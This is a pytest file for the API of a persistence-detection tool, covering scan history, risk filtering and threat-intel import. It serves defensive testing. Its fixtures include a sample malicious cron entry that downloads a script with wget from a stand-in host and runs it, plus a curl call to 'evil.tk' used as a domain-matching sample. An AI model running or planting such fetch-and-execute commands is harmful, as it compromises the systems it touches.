"""Tests for the FastAPI persistence router."""

import asyncio

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from persistguard.api import create_engine_router
from persistguard.config import EngineConfig
from persistguard.engine import Engine
from persistguard.models import MechanismKind, Platform
from persistguard.signatures import SignatureOracle

GOOD_HASH = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


@pytest.fixture
def engine(fake_gateway, make_probe, make_artifact):
    def cron(name, command):
        return make_artifact(
            kind=MechanismKind.CRON_USER,
            name=name,
            path="/var/spool/cron/crontabs/alice",
            command=command,
            platform=Platform.LINUX,
        )

    probes = [
        make_probe("cron", [cron("backup", "/usr/local/bin/backup"), cron("dropper", "wget -qO- http://x.tk/i | sh")]),
        make_probe("broken", error=RuntimeError("disk on fire")),
    ]
    return Engine(
        config=EngineConfig(),
        platform=Platform.LINUX,
        gateway=fake_gateway,
        oracle=SignatureOracle(fake_gateway, Platform.LINUX),
        probes=probes,
        environ={},
    )


@pytest.fixture
def client(engine):
    app = FastAPI()
    app.include_router(create_engine_router(engine))
    return TestClient(app)


class TestStatus:
    def test_idle_engine(self, client):
        response = client.get("/persistence/status")
        assert response.status_code == 200
        data = response.json()
        assert data["platform"] == "linux"
        assert data["scanning"] is False
        assert data["phase"] == "idle"
        assert data["threat_intel"] == {"hashes": 0, "domains": 0, "publishers": 0, "paths": 0}

    def test_probes(self, client):
        data = client.get("/persistence/probes").json()
        assert data["count"] == 2
        assert [p["name"] for p in data["probes"]] == ["cron", "broken"]
        assert "linux" in data["probes"][0]["platforms"]

    def test_tools(self, client):
        data = client.get("/persistence/tools").json()
        assert data["total_count"] == len(data["tools"])
        assert "systemctl" in data["tools"]
        assert "reg" not in data["tools"]


class TestScans:
    def test_empty_history(self, client):
        assert client.get("/persistence/scans").json() == {"scans": [], "count": 0}

    def test_newest_first(self, client, engine):
        first = asyncio.run(engine.scan())
        second = asyncio.run(engine.scan())
        data = client.get("/persistence/scans").json()
        assert [s["scan_id"] for s in data["scans"]] == [second.scan_id, first.scan_id]
        assert data["scans"][0]["error_count"] == 1
        assert data["scans"][0]["total_items"] == 2
        assert data["scans"][0]["summary"].startswith("1 of 2 checks completed")

    def test_limit_validated(self, client):
        assert client.get("/persistence/scans", params={"limit": 0}).status_code == 422

    def test_scan_detail(self, client, engine):
        result = asyncio.run(engine.scan())
        data = client.get(f"/persistence/scans/{result.scan_id}").json()
        assert data["scan_id"] == result.scan_id
        assert len(data["items"]) == 2
        assert data["errors"][0]["probe"] == "broken"

        critical = client.get(f"/persistence/scans/{result.scan_id}", params={"min_risk": "critical"}).json()
        assert [i["name"] for i in critical["items"]] == ["dropper"]

    def test_unknown_scan(self, client):
        response = client.get("/persistence/scans/does-not-exist")
        assert response.status_code == 404
        assert "not found" in response.json()["detail"]

    def test_bad_min_risk(self, client, engine):
        result = asyncio.run(engine.scan())
        response = client.get(f"/persistence/scans/{result.scan_id}", params={"min_risk": "scary"})
        assert response.status_code == 422


class TestThreatIntel:
    def test_import(self, client, engine):
        response = client.post(
            "/persistence/threat-intel",
            json={"hashes": [GOOD_HASH, "nope"], "domains": ["evil.tk"]},
        )
        assert response.status_code == 200
        assert response.json()["threat_intel"] == {"hashes": 1, "domains": 1, "publishers": 0, "paths": 0}
        assert engine.intel_store.snapshot.find_domain("curl https://evil.tk/x") == "evil.tk"
        assert client.get("/persistence/status").json()["threat_intel"]["domains"] == 1

    def test_rejects_wrong_types(self, client):
        response = client.post("/persistence/threat-intel", json={"domains": "evil.tk"})
        assert response.status_code == 422
